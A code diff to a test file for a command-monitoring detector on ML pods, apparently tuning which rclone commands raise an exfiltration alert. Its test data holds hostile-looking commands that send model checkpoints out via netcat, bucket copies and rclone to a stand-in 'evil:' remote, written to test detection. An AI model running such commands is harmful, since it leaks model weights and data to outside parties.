@@ -5,7 +5,7 @@
  * high alert before attrs.exec.toolWords: a tool's option read from another command (`grep -F`,
  * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`), an scp pull, a bucket download, the service account's public
  * files, a filtered environment listing, a checkpoint named by a command that packs nothing, a
- * request body posted to a model server on the pod's loopback. The
+ * request body posted to a model server on the pod's loopback, an rclone pull. The
  * credential reads and uploads beside them still alert.
  */
 import { describe, expect, it } from 'vitest';
@@ -63,6 +63,10 @@ const EVERYDAY: string[][] = [
     'curl -s -X POST -H "Content-Type: application/json" -d @/tmp/req.json http://localhost:8000/v1/completions | jq .choices',
     'curl -sd @req.json 127.0.0.1:8080/predict > /tmp/out.json 2>&1',
     'timeout 10 curl -s -F image=@/data/val/cat.jpg http://[::1]:9000/classify',
+    // Data pulled with rclone, listed, checked (a send to a remote still alerts).
+    'rclone copy s3:datasets/shard-01 /data --transfers 8 -P',
+    'rclone sync gcs:ml-data/v3 /data/v3 --fast-list && rclone check gcs:ml-data/v3 /data/v3',
+    'rclone lsd remote: && rclone size s3:ml-ckpt/llama',
   ].map(sh),
 ];
 
@@ -94,7 +98,7 @@ describe('the credential reads and uploads beside them still alert', () => {
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
   });
 
-  it('netcat sending, scp pushing (also beside a port check), copies to a bucket (MLS-EXFIL-014)', () => {
+  it('netcat sending, scp pushing (also beside a port check), copies to a bucket, rclone sending (MLS-EXFIL-014)', () => {
     for (const argv of [
       ['nc', '203.0.113.5', '9000'],
       sh('nc 203.0.113.5 9000 < /mnt/ckpt/model.pt'),
@@ -107,6 +111,10 @@ describe('the credential reads and uploads beside them still alert', () => {
       sh('tar czf - /mnt/ckpt | aws s3 cp - s3://tmp-share-0835/c.tgz'),
       ['gsutil', '-m', 'cp', '-r', '/mnt/ckpt', 'gs://tmp-share/'],
       sh('gcloud storage cp /mnt/ckpt/model.pt gs://tmp-share/ --project p'),
+      sh('rclone copy /mnt/ckpt/llama evil:drop/x -P'),
+      sh('rclone sync s3-corp:ckpt evil:x'),
+      sh('tar c /mnt/ckpt | rclone rcat evil:x.tar'),
+      sh('rclone serve http /mnt/ckpt --addr :8080'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
   });
 
